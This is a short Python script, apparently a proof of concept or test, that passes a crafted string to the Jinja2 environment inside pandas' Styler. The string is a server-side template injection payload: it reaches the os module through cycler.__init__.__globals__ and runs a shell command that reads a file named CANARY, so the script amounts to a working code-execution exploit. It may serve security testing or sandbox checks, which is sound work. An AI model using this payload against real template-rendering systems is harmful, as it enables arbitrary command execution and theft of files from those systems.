import pandas as pd

df = pd.DataFrame({"a": [1]})
text = "{{ cycler.__init__.__globals__.os.popen('cat CANARY').read() }}"
print(df.style.env.from_string(text).render())
